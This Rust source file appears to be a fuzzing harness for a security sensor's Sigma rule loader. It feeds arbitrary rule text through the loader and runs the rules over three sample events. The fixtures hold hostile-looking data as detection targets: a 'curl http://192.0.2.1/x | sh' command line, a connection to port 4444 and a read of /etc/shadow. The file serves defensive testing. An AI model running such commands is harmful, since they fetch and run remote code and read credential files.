//! Entry point for fuzzing the Sigma rule loader: a rule text reaches a node
//! in the replicated policy (`[rules] sigma`), written by an operator of any
//! member. The target of `learning/fuzz/` calls [`sigma_rule`], and
//! `tests/fuzz_corpus.rs` replays the seed corpus and the regressions
//! through it in plain `cargo test`.

use amoskys_sensors::event::{
    FileActivity, FileActivityKind, LineageEntry, ProcessActivityKind, ProcessInfo, ProcessRef,
    SocketActivityKind,
};
use amoskys_sensors::{Event, EventBody, ProcessActivity, SocketActivity, Transport};

use crate::rules::sigma::SigmaRules;

/// One event of each log source the rules map.
fn events() -> [Event; 3] {
    let process = ProcessInfo {
        pid: 4242,
        ppid: 42,
        name: "curl".into(),
        exe: "/usr/bin/curl".into(),
        cmdline: vec![
            "curl".into(),
            "http://192.0.2.1/x".into(),
            "|".into(),
            "sh".into(),
        ],
        uid: 0,
        start_time_ns: 1,
        cwd: "/tmp".into(),
    };
    let by = ProcessRef {
        pid: 4242,
        name: "curl".into(),
        exe: "/usr/bin/curl".into(),
        uid: 0,
    };
    [
        Event::new(
            7,
            "h",
            "ebpf",
            EventBody::ProcessActivity(ProcessActivity {
                activity: ProcessActivityKind::Launch,
                process,
                lineage: vec![LineageEntry {
                    pid: 42,
                    name: "bash".into(),
                    exe: "/usr/bin/bash".into(),
                }],
            }),
        ),
        Event::new(
            8,
            "h",
            "ebpf",
            EventBody::SocketActivity(SocketActivity {
                activity: SocketActivityKind::Connect,
                transport: Transport::Tcp,
                local: ([0u8; 4], 0).into(),
                remote: Some(([192, 0, 2, 1], 4444).into()),
                process: Some(by.clone()),
            }),
        ),
        Event::new(
            9,
            "h",
            "ebpf",
            EventBody::FileActivity(FileActivity {
                activity: FileActivityKind::Open,
                path: "/etc/shadow".into(),
                flags: 0,
                process: by,
            }),
        ),
    ]
}

/// A rule text of the policy: loaded as the detector loads the policy's
/// list, then every loaded rule run over one event of each log source.
pub fn sigma_rule(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let (rules, _problems) = SigmaRules::load_lenient(&[text]);
    let mut out = Vec::new();
    for e in &events() {
        rules.observe(e, &mut out);
    }
}
